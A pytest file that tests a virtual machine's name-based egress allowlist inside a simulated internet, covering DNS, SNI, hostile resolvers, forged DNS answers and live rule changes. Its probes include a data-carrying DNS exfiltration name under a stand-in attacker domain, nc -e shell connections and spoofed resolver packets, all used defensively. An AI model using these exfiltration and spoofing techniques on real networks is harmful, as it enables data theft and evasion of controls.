# SPDX-License-Identifier: MIT
"""Tests the network by name: in an internet of the tests' own a guest reaches only what is listed, by DNS too."""

import base64
import json
import os
import socket
import ssl
import struct
import subprocess
import tempfile
import threading
from pathlib import Path

import pytest

import internet
import lan as places
import schema_check
from conftest import BACKEND, make_host, wait_until, with_base
from test_audit import destroy, events
from test_hostile_guest import attacker
from test_session_share import own_cache

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="only root makes network namespaces")
SMALL = ("--memory", 256, "--cpus", 1)
REAL, OTHER, HIDDEN = internet.REAL, internet.OTHER, internet.HIDDEN
# The tests are about the answers of a hostile resolver for these names.
LISTED = ("rebind.example", "ours.example", "metadata.example", "both.example", "unasked.example", "wrongid.example", "loop.example",
          "forward.example", "cut.example", "other.example", "forged.example", "n0.long.example", "n6.long.example", "*.wild.example", "later.example:8080")


# `get URL [ADDRESS]`: busybox's wget asks a libc for names that a static program cannot have. Its nc ends its sending
# side at once, which passt does not handle. So the program behind -e has the connection.
GET = r"""#!/bin/sh
url=${1#*://}; export name=${url%%/*} scheme=${1%%://*} path=/${url#*/} out=/tmp/out.$$
case $name in *:*) port=${name#*:} ;; *) [ $scheme = https ] && port=443 || port=80 ;; esac
address=${2:-$(nslookup ${name%:*} | sed -n '/^Name/,$s/^Address: \([0-9.]*\)$/\1/p' | tail -n 1)}
export ask="GET $path HTTP/1.1\r\nHost: $name\r\nConnection: close\r\n\r\n"
[ "$address" ] && nc -w 20 $address $port -e /tmp/on-$scheme 2>/dev/null
[ -f $out ] && sed '1,/^\r*$/d' $out; rm -f $out
"""
ON = {"http": 'printf "$ask"; cat > $out', "https": 'exec 3<&0; printf "$ask" | ssl_client -s 3 -n ${name%:*} > $out 2>/dev/null'}


class World(places.Lan):
    """A host and an internet in which internet.py answers. `said` has its lines, from both sides."""

    def __init__(self, base):
        super().__init__(base)
        self.said = []
        key, cert = base / "key.pem", base / "cert.pem"
        subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=world",
                        "-days", "2", "-keyout", key, "-out", cert], check=True, capture_output=True)
        self.service = (internet.__file__, str(key), str(cert))

    def build(self):
        super().build()
        for service in self.services:
            threading.Thread(target=self.listen, args=(service.stdout,), daemon=True).start()

    def listen(self, stream):
        for line in stream:
            self.said.append(line.decode().rstrip())

    def asked(self, name):
        return [line for line in self.said if line.split()[:2] == ["dns", name]]


class Guest:
    """A machine in that world."""

    def __init__(self, host, lan, name="w"):
        self.host, self.lan, self.name = host, lan, name

    def begin(self):
        self.cli("start", self.name)
        self.put_programs()

    def put_programs(self):
        for name, text in {"get": GET, **{f"on-{scheme}": f"#!/bin/sh\n{line}\n" for scheme, line in ON.items()}}.items():
            self.sh(f"cat > /tmp/{name} << 'END'\n{text}END\nchmod 755 /tmp/{name}")

    def arm(self):
        self.host("exec", "-i", "-u", "root", self.name, "--", "sh", "-c", "cat > /tmp/attack; chmod 755 /tmp/attack",
                  input=attacker(), text=False, check=0)

    def cli(self, *words, check=0):
        return self.host(*words, check=check)

    def sh(self, script, user="root"):
        return self.cli("exec", "-u", user, self.name, "--", "sh", "-c", script, check=None)

    def get(self, url, address=""):
        """Returns the body of the answer, or "" if there is none. The address is that of the name unless one is given."""
        return self.sh(f"/tmp/get {url} {address}").stdout.rstrip()

    def say(self, protocol, port, address, to, data):
        """Returns the answer to that port of the guest."""
        return bytes.fromhex(self.sh(f"/tmp/attack say {protocol} {port} {address} {to} {data.hex()}").stdout.splitlines()[0])

    def reaches(self, address, port=8080):
        return self.get(f"http://{address}:{port}/", address) != ""

    def says(self, address, port, command):
        """Returns, in hexadecimal digits, the answer to the command's output."""
        script = f"cat > /tmp/say << 'END'\n#!/bin/sh\n{command}; head -c 3 | xxd -p > /tmp/heard\nEND\nchmod 755 /tmp/say; "
        return self.sh(f"rm -f /tmp/heard; {script} nc -w 20 {address} {port} -e /tmp/say; cat /tmp/heard").stdout.strip()

    def resolves(self, name, *options):
        return self.sh(f"nslookup {' '.join(options)} {name} 2>&1").stdout

    def lines(self):
        log = (self.host.state / self.name / "supervisor.log").read_text()
        return [line.split("network: ", 1)[1] for line in log.splitlines() if "network: " in line]

    def data(self, event):
        """Returns the events of the audit log of a session."""
        return [line["data"] for line in events(self.host, self.name, event)]

    def count(self, begin, end):
        return sum(line.startswith(begin) and line.endswith(end) for line in self.lines())

    def told(self, begin, end):
        return any(line.startswith(begin) and line.endswith(end) for line in self.lines())


@pytest.fixture(name="lan", scope="module")
def own_world(tmp_path_factory):
    lan = World(tmp_path_factory.mktemp("world"))
    try:
        lan.build()
        yield lan
    finally:
        lan.remove()


def exactly_what_is_listed(guest):
    assert guest.get("http://pypi.org/") == f"http pypi.org at {REAL}"
    assert guest.get("https://pypi.org/simple/") == f"https pypi.org at {REAL}"
    assert guest.get("https://files.pythonhosted.org/") == f"https files.pythonhosted.org at {REAL}"  # by two aliases
    assert guest.get("http://b.a.wild.example/") == f"http b.a.wild.example at {OTHER}"
    wait_until(lambda: guest.told("tcp 10.0.2.15:", f" -> {REAL}:443 pypi.org"), "the connection to be listed")
    assert "dns pypi.org A" in guest.lines()
    # The connection works at the ports of the rule only.
    assert guest.get("http://later.example:8080/") == f"http later.example:8080 at {OTHER}"
    assert not guest.reaches("pypi.org", 8080) and guest.get("http://later.example/") == ""


def not_even_by_dns(guest):
    """No question for the name leaves, since the name itself could carry data."""
    for name in ("evil.example", "c2VjcmV0.evil.example", "wild.example", "pypi.org.evil.example", "xpypi.org"):
        assert "NXDOMAIN" in guest.resolves(name) and guest.get(f"https://{name}/") == "", name
        assert not guest.lan.asked(name), guest.lan.said
    wait_until(lambda: "dns c2vjcmv0.evil.example A refused" in guest.lines(), "the refusal to be listed")
    # A question of another type does not leave either, since its answers have room for much data.
    guest.resolves("pypi.org", "-type=txt")
    assert {line.split()[-1] for line in guest.lan.asked("pypi.org")} <= {"A", "AAAA"}
    assert "Connection refused" in guest.sh("nc -w 20 10.0.2.3 53 </dev/null 2>&1").stdout


def not_by_address(guest):
    for address in (OTHER, HIDDEN, places.LAN, "10.0.2.2"):
        assert not guest.reaches(address, 80) and not guest.reaches(address, 443), address
    wait_until(lambda: guest.told("tcp 10.0.2.15:", f" -> {HIDDEN}:443 refused"), "the refusal to be listed")


def a_name_of_the_guests_own(guest):
    """The name comes from an image's /etc/hosts: another name, at an address that is open. SNI and Host say which name it is."""
    guest.resolves("pypi.org")
    for name in ("evil.example", "twin.example", "a.wild.example"):  # the last one is listed, but does not belong to that address
        assert guest.get(f"https://{name}/", REAL) == "" and guest.get(f"http://{name}/", REAL) == "", name
        assert not any(name in line.split()[2:] for line in guest.lan.said if not line.startswith("dns ")), guest.lan.said
    wait_until(lambda: guest.told("tls 10.0.2.15:", f" -> {REAL}:443 evil.example refused") and
               guest.told("http 10.0.2.15:", f" -> {REAL}:80 evil.example refused"), "the refusals to be listed")
    # The address by itself is no name, and neither is a text that no browser would send.
    assert guest.get(f"http://{REAL}/", REAL) == ""
    for what in ("GET / HTTP/1.0\\r\\n\\r\\n", "SSH-2.0-x\\r\\n"):
        for port in (80, 443):
            assert guest.says(REAL, port, f"printf '{what}'") == "", (what, port)


def a_hostile_resolver(guest):
    """An address that is closed stays closed, and an answer that answers nothing opens nothing."""
    for name in ("rebind.example", "ours.example", "metadata.example"):
        assert guest.get(f"http://{name}/") == "", name
    assert guest.get("http://both.example/") == f"http both.example at {OTHER}"
    assert guest.get("http://wrongid.example/") == f"http wrongid.example at {REAL}"
    guest.get("http://unasked.example/")
    for name in ("loop.example", "forward.example", "cut.example", "other.example"):
        guest.sh(f"timeout 3 nslookup {name}")
    assert not guest.reaches(HIDDEN, 80)
    # Eight aliases are followed, and no ninth.
    assert guest.get("http://n6.long.example/") == f"http n6.long.example at {OTHER}"
    assert guest.get("http://n0.long.example/") == ""
    assert guest.get("http://pypi.org/") == f"http pypi.org at {REAL}"


def a_forged_answer(guest):
    """The guest asks from a port and with a number on which it has agreed with an accomplice, who sends as the resolver
    does. The accomplice cannot know the port and the number with which the question has left, and neither can the
    guest. Of the guest's choices only the name has reached the resolver."""
    number, port = internet.AGREED
    cookie = b"\0\0\x29\x10\0\0\0\x80\0\0\x0c\0\x0a\0\x08\x73\x65\x63\x72\x65\x74\x21\x21"
    asked, told = internet.encoded("FORged.eXample"), internet.encoded("forged.example")
    # The accomplice's datagrams to that port reach the filter. A datagram that is no answer does not reach the guest.
    assert guest.say("udp", port, OTHER, 8080, b"open") == b"open"
    answer = guest.say("udp", port, "10.0.2.3", 53, struct.pack("!HHHHHH", number, 0x0030, 1, 0, 0, 1) + asked + b"\0\1\0\1" + cookie)
    assert answer[:2] == struct.pack("!H", number) and answer[12:12 + len(asked)] == asked and answer.endswith(socket.inet_aton(REAL))
    assert guest.get("http://forged.example/", REAL) == f"http forged.example at {REAL}"
    assert guest.get("http://forged.example/", HIDDEN) == "" and not guest.reaches(HIDDEN, 80)
    asked_for = [(int(line.split()[1]), bytes.fromhex(line.split()[2])) for line in guest.lan.said if line.startswith("question ")]
    [(left_by, question)] = [one for one in asked_for if one[1][12:-15] == told]
    assert (left_by, question[:2]) != (port, struct.pack("!H", number))
    assert question[2:] == bytes.fromhex("01000001000000000001") + told + b"\0\1\0\1" + bytes.fromhex("00002904b0000000000000")
    # No two questions have the same port and number.
    assert len({(left_by, question[:2]) for left_by, question in asked_for}) >= len(asked_for) - 1 and min(asked_for)[0] >= 32768


def lines_of_connections(guest):
    """Each name has its own rule, though both have the same ports. If names share an address, the name that was said counts."""
    names = {"later.example": (OTHER, 8080), "forged.example": (REAL, 80), "pypi.org": (REAL, 80)}
    guest.resolves("later.example"), guest.resolves("pypi.org")
    for _ in range(2):
        for name, (address, port) in names.items():
            ask = f"GET / HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n".encode()
            assert f"http {name} at {address}".encode() in guest.say("tcp", 45000, address, port, ask)
    wait_until(lambda: [guest.count("tcp 10.0.2.15:45000 ", f" {name}") for name in names] == [2, 2, 2], "a line for each")


def hello(name, protocols=0):
    """Makes a ClientHello that is as long as its list of protocols."""
    context, out = ssl.create_default_context(), ssl.MemoryBIO()
    context.set_alpn_protocols([f"{number:03}" + "x" * 96 for number in range(protocols)] or ["http/1.1"])
    stream = context.wrap_bio(ssl.MemoryBIO(), out, server_hostname=name)
    with pytest.raises(ssl.SSLWantReadError):
        stream.do_handshake()
    return out.read()


def a_hello_in_pieces(guest):
    """It has several segments, as one with post-quantum keys has."""
    guest.sh("ip link set eth0 mtu 600")
    for name, answer in (("pypi.org", "160303"), ("evil.example", "")):
        data = hello(name, protocols=20)
        assert len(data) > 1800
        guest.sh(f"echo {base64.b64encode(data).decode()} | base64 -d > /tmp/hello")
        assert guest.says(REAL, 443, "cat /tmp/hello") == answer, name
        assert (f"tls {REAL} {name}" in guest.lan.said) == bool(answer)
        # It is sent with a pause, in which the first piece waits for its acknowledgement.
        assert guest.says(REAL, 443, "(head -c 100 /tmp/hello; sleep 0.5; tail -c +101 /tmp/hello)") == answer, name
    guest.sh("ip link set eth0 mtu 1500")


def no_quic(guest):
    guest.sh(f"timeout 2 tftp -g -r x {REAL} 443")
    wait_until(lambda: guest.told("udp 10.0.2.15:", f" -> {REAL}:443 refused"), "the refusal to be listed")


def changed_while_it_runs(guest):
    assert guest.get("http://evil.example/") == ""
    assert guest.cli("network", "allow", "w", "evil.example").stdout == "w: evil.example is allowed\n"
    assert guest.get("http://evil.example/") == f"http evil.example at {OTHER}"
    assert guest.get("https://evil.example/") == f"https evil.example at {OTHER}"
    guest.cli("network", "allow", "w", "EVIL.example:443,80")  # they are there already
    guest.cli("network", "allow", "w", f"{HIDDEN}/32")
    assert guest.reaches(HIDDEN, 8080)
    # A rule's connections end with the rule.
    ask = "printf 'GET /%s HTTP/1.1\\r\\nHost: evil.example\\r\\n\\r\\n'"
    guest.sh(f"mkfifo /tmp/open; echo \"#!/bin/sh\n{ask % 'held'}; cat /tmp/open\" > /tmp/hold; chmod 755 /tmp/hold; "
             f"nc -w 20 {OTHER} 80 -e /tmp/hold > /dev/null 2>&1 &")
    wait_until(lambda: any("/held" in line for line in guest.lan.said), "a connection that stays open")
    assert guest.cli("network", "deny", "w", "evil.example").stdout == "w: evil.example is no longer allowed\n"
    guest.cli("network", "deny", "w", f"{HIDDEN}/32")
    guest.sh(f"{ask % 'late'} > /tmp/open")
    assert "NXDOMAIN" in guest.resolves("evil.example")
    assert not guest.reaches(OTHER, 80) and not guest.reaches(HIDDEN, 8080)
    assert not any("/late" in line for line in guest.lan.said)
    refused = guest.cli("network", "deny", "w", "evil.example", check=1).stderr
    assert 'its list of names does not have "evil.example"' in refused
    details = [event.get("detail") for event in json.loads(guest.cli("--json", "events", "w").stdout)["events"]]
    assert [d for d in details if d and "network: " in d] == [
        "network: evil.example is allowed", f"network: {HIDDEN}/32 is allowed", "network: evil.example is no longer allowed",
        f"network: {HIDDEN}/32 is no longer allowed"]


def test_names(host, lan):
    host.wrap = lan.inside()
    guest = Guest(host, lan)
    guest.cli("create", "w", *SMALL, "--network", "nat", "--egress-from", "pypi", *(word for name in LISTED for word in ("--egress", name)))
    guest.begin()
    exactly_what_is_listed(guest)
    not_even_by_dns(guest)
    not_by_address(guest)
    a_name_of_the_guests_own(guest)
    a_hostile_resolver(guest)
    guest.arm()
    a_forged_answer(guest)
    lines_of_connections(guest)
    a_hello_in_pieces(guest)
    no_quic(guest)
    changed_while_it_runs(guest)
    guest.cli("network", "allow", "w", "evil.example")
    shown = json.loads(guest.cli("--json", "network", "w").stdout)
    schema_check.validate("cli-network", shown)
    assert shown["network"]["egress"] == {"names": [*LISTED, "pypi.org", "files.pythonhosted.org", "evil.example"], "sni": "required"}
    assert "evil.example" in guest.cli("network", "w").stdout
    guest.cli("stop", "w")
    guest.begin()  # with the rules that were added
    assert guest.get("http://evil.example/") == f"http evil.example at {OTHER}"
    assert guest.get("http://twin.example/") == ""
    guest.cli("kill", "w")
    guest.cli("delete", "w")


@pytest.fixture(name="place", scope="module")
def with_a_base(lan):
    it = make_host(Path(tempfile.mkdtemp(prefix="e-")))
    own_cache(it)
    it.wrap = lan.inside()
    yield from with_base(it)


def test_a_dry_run_of_a_session(place, lan):
    """Nothing is refused that would not be refused otherwise. The audit log has what would be refused, and every change."""
    name = place.json("session", "create", "--base", "web", "--network", "nat", "--egress", "pypi.org", "--egress-dry-run")["name"]
    guest = Guest(place, lan, name)
    guest.put_programs()
    assert guest.get("http://pypi.org/") == f"http pypi.org at {REAL}"
    assert guest.get("http://evil.example/") == f"http evil.example at {OTHER}"
    assert not guest.reaches(places.LAN)  # it is closed without the option too
    place("network", "allow", name, "evil.example:80", check=0)
    place("network", "deny", name, "pypi.org", check=0)
    wait_until(lambda: guest.data("net.would-refuse") and guest.data("net.refused"), "what was and would be refused")
    would = guest.data("net.would-refuse")
    assert {"name": "evil.example", "type": "A"} in would
    assert any(one.get("to") == f"{OTHER}:80" for one in would) and not any(one.get("name") == "pypi.org" for one in would)
    assert {"name": "pypi.org", "type": "A"} in guest.data("net.resolve")
    assert any(one["to"] == f"{REAL}:80" and one.get("name") == "pypi.org" for one in guest.data("net.connect"))
    assert [one["to"] for one in guest.data("net.refused")] == [f"{places.LAN}:8080"]
    assert guest.data("net.allowed") == [{"rule": "evil.example:80"}] and guest.data("net.denied") == [{"rule": "pypi.org"}]
    destroy(place, name)


def fork_of(guest):
    [child] = guest.host.json("session", "fork", guest.name)["sessions"]
    return Guest(guest.host, guest.lan, child["name"])


def mac_of(guest):
    """Returns the address of its card, as the guest and its host have it."""
    mac = guest.sh("cat /sys/class/net/eth0/address").stdout.strip()
    assert mac == guest.host.json("network", guest.name)["runtime"]["mac"], guest.name
    return mac


@pytest.mark.skipif(BACKEND != "qemu", reason="no other backend saves machines")
def test_a_fork_has_a_network(place, lan):
    """Frames of the card that it was saved with are let through, also in a fork of a fork and in its snapshot. A
    machine that boots has its own card."""
    place("base", "warm", "web", check=0)
    told = place.json("session", "create", "--base", "web", "--network", "nat")
    assert told["boot"] == {"how": "restored"}, told
    parent = Guest(place, lan, told["name"])
    parent.put_programs()
    card = mac_of(parent)
    child = fork_of(parent)
    grandchild = fork_of(child)
    place("session", "snapshot", child.name, "before", check=0)
    place("session", "restore", child.name, "before", check=0)
    for guest in (parent, child, grandchild):
        assert guest.get("http://pypi.org/") == f"http pypi.org at {REAL}", guest.name
        assert mac_of(guest) == card
    # It would become a word of QEMU's command line.
    point = place.state / "sessions" / f"{child.name}.bundle" / "points" / "before" / "template.json"
    point.chmod(0o600)
    point.write_text(point.read_text().replace(card, "02:00:00:00,rx=on"))
    told = place.json("session", "restore", child.name, "before")["snapshot"]
    assert told["boot"] == {"how": "cold", "why": "the template has a network card without a valid address: make the template again"}
    child.put_programs()
    assert child.get("http://pypi.org/") == f"http pypi.org at {REAL}" and mac_of(child) != card
    for guest in (parent, child, grandchild):
        destroy(place, guest.name)


# --- refused before anything is made -----------------------------------------------------------------------

WRONG = (
    (("--egress", "https://pypi.org"), "--egress: 'https://pypi.org' is a URL"),
    (("--egress", "pypi.org/simple"), "it has a slash"),
    (("--egress", "192.0.2.1"), "is an address, not a name: write the prefix 192.0.2.1/32; a private address belongs in --allow"),
    (("--egress", "pypi.org:0"), "ports from 1 to 65535"),
    (("--egress", "*"), "stands for every name"),
    (("--egress", "10.0.0.0/8"), "--egress: 10.0.0.0/8 is not on the public internet, and stays blocked even when it is listed: if it is private, --allow opens it"),
    (("--egress", "0.0.0.0/0"), "--egress: 0.0.0.0/0 is the prefix of all addresses"),
    (("--egress-from", "rubygems"), 'there is no list "rubygems": give npm, pypi, debian or github'),
    (("--egress", "pypi.org", "--network", "isolated"), "--egress needs --network nat, and --network is \"isolated\": an isolated guest"),
    (("--egress", "pypi.org", "--network", "bridged", "--network-interface", "br0"), "nothing is filtered on a bridge"),
    (("--egress-sni", "maybe", "--egress", "pypi.org"), '--egress-sni must be required or off, and is "maybe"'),
    (("--egress-sni", "off"), "--egress-sni checks names, and so needs --egress or --egress-from, which give the names"),
)


def test_wrong_words(host):
    for words, why in WRONG:
        done = host("create", "w", *words)
        assert done.returncode == 2 and why in done.stderr, (words, done.stderr)
    listed = host.base / "list"
    listed.write_text("pypi.org\nhttp://pypi.org\n")
    done = host("create", "w", "--network", "nat", "--egress-from", str(listed))
    assert done.returncode in (1, 2) and f"{listed}:2: 'http://pypi.org' is a URL" in done.stderr
    listed.write_text("".join(f"n{i}.example\n" for i in range(300)))
    done = host("create", "w", "--network", "nat", "--egress-from", str(listed))
    assert done.returncode in (1, 2) and "the names of --egress: 300 entries are given, but at most 256 are allowed" in done.stderr, done.stderr
    done = host("base", "create", "x", "--egress", "pypi.org")
    assert done.returncode == 2 and "leave out --egress" in done.stderr
    assert not (host.state / "w").exists()


def test_no_list_of_a_machine_without_one(vm):
    done = vm("network", "allow", "vm", "pypi.org")
    assert done.returncode == 1 and "its network has no list of names, and cannot get one while the machine runs: make the machine with --egress" in done.stderr
    assert vm("network", "allow", "vm", "https://pypi.org").returncode == 2
    done = vm("network", "allow", "vm", "172.16.0.0/12")
    assert done.returncode == 2 and "172.16.0.0/12 is not on the public internet" in done.stderr


def test_nobody_listens_any_more(vm):
    """As in the moment between the end of a machine and its record."""
    asked = vm.state / "vm" / "control.sock"
    asked.rename(vm.state / "vm" / "away")
    for words in (("network", "allow", "vm", "pypi.org"), ("balloon", "vm", "128")):
        done = vm(*words)
        assert done.returncode == 1 and "it is ending or not yet running" in done.stderr, done
    (vm.state / "vm" / "away").rename(asked)
